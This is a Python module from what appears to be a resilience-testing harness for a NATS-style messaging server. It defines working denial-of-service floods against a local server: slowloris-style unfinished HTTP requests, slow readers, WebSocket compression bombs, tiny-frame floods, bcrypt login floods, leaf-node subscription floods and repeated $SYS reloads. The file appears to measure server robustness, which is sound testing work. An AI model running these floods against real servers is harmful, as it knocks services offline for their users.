"""Attacks on the other doors of a server: monitoring, WebSocket, leaf nodes, logins, $SYS.

Owns: their preparations and floods; attacks.py lists them.
May not touch: the measurement (neighbours.py)."""

from __future__ import annotations

import asyncio
import contextlib
import json
import os
import socket
import struct
import time
import zlib
from collections.abc import Callable

from attack import HASHED, LEAF, MONITOR, SYSTEM, WEBSOCKET, Attack, publish
from plain_client import PlainClient

UPGRADE = (
    b"GET / HTTP/1.1\r\nHost: x\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
    b"Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\n"
    b"Sec-WebSocket-Extensions: permessage-deflate; client_no_context_takeover; "
    b"server_no_context_takeover\r\n\r\n"
)

# -- preparations


async def many_connections(attack: Attack, count: int = 500, subs: int = 200) -> None:
    for _ in range(count):
        client = await attack.client()
        client.send(b"".join(b"SUB watched.%d.%d %d\r\n" % (at, at, at + 9) for at in range(subs)))
    await client.request(b"nobody.listens", b"")


async def many_assets(attack: Attack, streams: int = 2000) -> None:
    """Streams with a consumer each."""
    clients = [await attack.client() for _ in range(4)]

    async def some(first: int) -> None:
        client = clients[first]
        for at in range(first, streams, len(clients)):
            name = f"A{at}"
            config = {"name": name, "subjects": [f"a.{at}"], "storage": "memory"}
            await client.api(f"STREAM.CREATE.{name}", config)
            consumer = {"durable_name": "C", "ack_policy": "explicit"}
            body = {"stream_name": name, "config": consumer}
            await client.api(f"CONSUMER.CREATE.{name}.C", body)

    await asyncio.gather(*(some(first) for first in range(len(clients))))


# -- the monitoring port


async def _http(attack: Attack, path: str, *, connections: int = 8) -> None:
    """Requests one after the other on each connection."""

    async def one() -> None:
        while attack.running:
            reader, writer = await asyncio.open_connection(
                "127.0.0.1", attack.ports[MONITOR], limit=1 << 24
            )
            request = f"GET {path} HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n"
            writer.write(request.encode())
            await reader.read(-1)
            writer.close()
            attack.done += 1

    await asyncio.gather(*(one() for _ in range(connections)))


def http(path: str, *, connections: int = 8) -> Callable[[Attack], asyncio.Future[None]]:
    async def act(attack: Attack) -> None:
        await _http(attack, path, connections=connections)

    return act  # type: ignore[return-value]


async def slow_monitors(attack: Attack) -> None:
    """Large documents are asked for, and never read."""
    for _ in range(300):
        sock = socket.create_connection(("127.0.0.1", attack.ports[MONITOR]))
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        sock.sendall(b"GET /connz?subs=detail&limit=4096 HTTP/1.1\r\nHost: x\r\n\r\n")
        attack.kept.setdefault("sockets", []).append(sock)
        attack.done += 1
        await asyncio.sleep(0.001)
    await asyncio.sleep(max(0.0, attack.until - time.perf_counter()))


async def unfinished_requests(attack: Attack) -> None:
    """Connections to the monitoring port that never finish their request."""
    sockets = attack.kept.setdefault("sockets", [])
    while attack.running:
        try:
            sock = socket.create_connection(("127.0.0.1", attack.ports[MONITOR]), timeout=1)
            sock.sendall(b"GET /varz HTTP/1.1\r\nX: " + b"y" * 4000)
        except OSError:
            await asyncio.sleep(0.05)
            continue
        sockets.append(sock)
        attack.done += 1
        if len(sockets) > 6000:
            sockets.pop(0).close()
        await asyncio.sleep(0)


# -- WebSocket


def frame(payload: bytes, first: int) -> bytes:
    """A masked frame with the key 0."""
    size = len(payload)
    if size < 126:
        head = struct.pack(">BB", first, 0x80 | size)
    elif size < 1 << 16:
        head = struct.pack(">BBH", first, 0x80 | 126, size)
    else:
        head = struct.pack(">BBQ", first, 0x80 | 127, size)
    return head + bytes(4) + payload


def deflated(payload: bytes) -> bytes:
    packer = zlib.compressobj(9, wbits=-15)
    return (packer.compress(payload) + packer.flush(zlib.Z_SYNC_FLUSH))[:-4]


async def _websocket(attack: Attack) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
    reader, writer = await asyncio.open_connection("127.0.0.1", attack.ports[WEBSOCKET])
    writer.write(UPGRADE)
    await reader.readuntil(b"\r\n\r\n")
    options = json.dumps({"user": "attacker", "pass": "attacker", "verbose": False})
    writer.write(frame(b"CONNECT " + options.encode() + b"\r\nPING\r\n", 0x82))
    return reader, writer


async def _websocket_flood(attack: Attack, data: bytes, *, connections: int) -> None:
    async def one() -> None:
        reader, writer = await _websocket(attack)
        reading = asyncio.create_task(_read_all(reader))
        while attack.running and not reading.done():
            writer.write(data)
            await writer.drain()
            await asyncio.sleep(0)
            attack.done += 1
        reading.cancel()
        writer.close()

    await asyncio.gather(*(one() for _ in range(connections)))


async def _read_all(reader: asyncio.StreamReader) -> None:
    with contextlib.suppress(ConnectionError):
        while await reader.read(1 << 16):
            pass


async def compression_bombs(attack: Attack) -> None:
    """Publishes of a megabyte of zeros that are a kilobyte on the wire."""
    data = frame(deflated(publish("bomb", bytes(1_000_000))), 0xC2) * 8
    await _websocket_flood(attack, data, connections=20)


async def tiny_frames(attack: Attack) -> None:
    """A message per frame, a frame per byte: PING, one letter at a time."""
    parts = [b"P", b"I", b"N", b"G", b"\r", b"\n"]
    data = b"".join(frame(part, 0x82) for part in parts) * 500
    await _websocket_flood(attack, data, connections=8)


async def empty_frames(attack: Attack) -> None:
    data = (frame(b"", 0x89) + frame(b"", 0xC2) + frame(b"", 0x82)) * 2000
    await _websocket_flood(attack, data, connections=8)


async def upgrades(attack: Attack) -> None:
    async def one() -> None:
        while attack.running:
            _, writer = await _websocket(attack)
            writer.transport.abort()
            attack.done += 1

    await asyncio.gather(*(one() for _ in range(20)))


# -- logins


async def _logins(attack: Attack, options: dict[str, object], *, connections: int) -> None:
    line = b"CONNECT " + json.dumps(options).encode() + b"\r\nPING\r\n"

    async def one() -> None:
        while attack.running:
            try:
                reader, writer = await asyncio.open_connection("127.0.0.1", attack.port)
                writer.write(line)
                await reader.read(-1)  # INFO, -ERR, end
                writer.close()
            except OSError:
                await asyncio.sleep(0.01)
            attack.done += 1

    await asyncio.gather(*(one() for _ in range(connections)))


async def password_logins(attack: Attack) -> None:
    """Wrong passwords of a user whose password is a bcrypt hash."""
    await _logins(attack, {"user": HASHED, "pass": "wrong"}, connections=50)


async def wrong_logins(attack: Attack) -> None:
    await _logins(attack, {"user": "nobody", "pass": "wrong"}, connections=20)


# -- leaf nodes


async def _leaf(attack: Attack) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
    reader, writer = await asyncio.open_connection("127.0.0.1", attack.ports[LEAF])
    await reader.readuntil(b"\r\n")
    options = {
        "user": "attacker", "pass": "attacker", "name": os.urandom(6).hex(), "headers": True,
        "server_id": os.urandom(6).hex(), "version": "2.11.0", "remote_account": "ATTACK",
    }  # fmt: skip
    writer.write(b"CONNECT " + json.dumps(options).encode() + b"\r\nPING\r\n")
    return reader, writer


async def leaf_handshakes(attack: Attack) -> None:
    async def one() -> None:
        while attack.running:
            _, writer = await _leaf(attack)
            await writer.drain()
            writer.transport.abort()
            attack.done += 1

    await asyncio.gather(*(one() for _ in range(20)))


async def leaf_interest(attack: Attack) -> None:
    """Lists of 100,000 subjects, and the connection ends."""

    async def one(number: int) -> None:
        while attack.running:
            reader, writer = await _leaf(attack)
            reading = asyncio.create_task(_read_all(reader))
            for first in range(0, 100_000, 1000):
                some = range(first, first + 1000)
                writer.write(b"".join(b"LS+ leaf.%d.%d q 1\r\n" % (number, at) for at in some))
                await writer.drain()
                if not attack.running:
                    break
            writer.transport.abort()
            reading.cancel()
            attack.done += 1

    await asyncio.gather(*(one(number) for number in range(4)))


async def leaf_changes(attack: Attack) -> None:
    """LS+ and LS- of the same subject, with other leaf nodes and subscribers beside it."""
    lines = b"".join(b"LS+ l.%d.*\r\nLS- l.%d.*\r\n" % (at, at) for at in range(500))

    async def one() -> None:
        reader, writer = await _leaf(attack)
        reading = asyncio.create_task(_read_all(reader))
        while attack.running:
            writer.write(lines)
            await writer.drain()
            await asyncio.sleep(0)
            attack.done += 1
        writer.close()
        reading.cancel()

    await asyncio.gather(*(one() for _ in range(8)))


async def slow_leafs(attack: Attack) -> None:
    """Leaf nodes that want everything and read nothing."""
    for _ in range(20):
        _, writer = await _leaf(attack)
        writer.write(b"LS+ >\r\n")
        writer.transport.pause_reading()
        attack.kept.setdefault("writers", []).append(writer)
    line = publish("big", bytes(64 << 10))
    await attack.flood(lambda _: line, connections=2)


# -- $SYS


async def _asks(attack: Attack, user: str, subject: bytes, body: bytes) -> None:
    clients = [await PlainClient.open(attack.port, user) for _ in range(4)]

    async def one(client: PlainClient) -> None:
        while attack.running:
            await client.request(subject, body)
            attack.done += 1

    await asyncio.gather(*(one(client) for client in clients for _ in range(4)))


async def own_connections(attack: Attack) -> None:
    """What any user may ask about its own account."""
    body = b'{"subscriptions_detail":true,"limit":4096,"subscriptions":true}'
    await _asks(attack, "attacker", b"$SYS.REQ.ACCOUNT.PING.CONNZ", body)


async def system_connections(attack: Attack) -> None:
    body = b'{"subscriptions_detail":true,"limit":4096,"subscriptions":true,"sort":"subs"}'
    await _asks(attack, SYSTEM, b"$SYS.REQ.SERVER.PING.CONNZ", body)


async def system_streams(attack: Attack) -> None:
    body = b'{"accounts":true,"streams":true,"consumer":true,"config":true}'
    await _asks(attack, SYSTEM, b"$SYS.REQ.SERVER.PING.JSZ", body)


async def reloads(attack: Attack) -> None:
    client = await PlainClient.open(attack.port, SYSTEM)
    told = json.loads(await client.request(b"$SYS.REQ.SERVER.PING.IDZ", b""))
    server = told.get("id") or told["server"]["id"]
    await _asks(attack, SYSTEM, f"$SYS.REQ.SERVER.{server}.RELOAD".encode(), b"")


DOORS = {
    "monitor connz": (many_connections, http("/connz?subs=detail&limit=4096&sort=subs")),
    "monitor subsz": (many_connections, http("/subsz?subs=1&limit=4096&test=watched.1.1")),
    "monitor jsz": (many_assets, http("/jsz?accounts=1&streams=1&consumers=1&config=1")),
    "monitor metrics": (many_assets, http("/metrics")),
    "monitor slow readers": (many_connections, slow_monitors),
    "monitor unfinished requests": (None, unfinished_requests),
    "compression bombs": (None, compression_bombs),
    "tiny frames": (None, tiny_frames),
    "empty frames": (None, empty_frames),
    "upgrades": (None, upgrades),
    "password logins": (None, password_logins),
    "wrong logins": (None, wrong_logins),
    "leaf handshakes": (None, leaf_handshakes),
    "leaf interest": (None, leaf_interest),
    "leaf changes": (many_connections, leaf_changes),
    "slow leafs": (None, slow_leafs),
    "own connections": (many_connections, own_connections),
    "system connections": (many_connections, system_connections),
    "system streams": (many_assets, system_streams),
    "reloads": (many_connections, reloads),
}
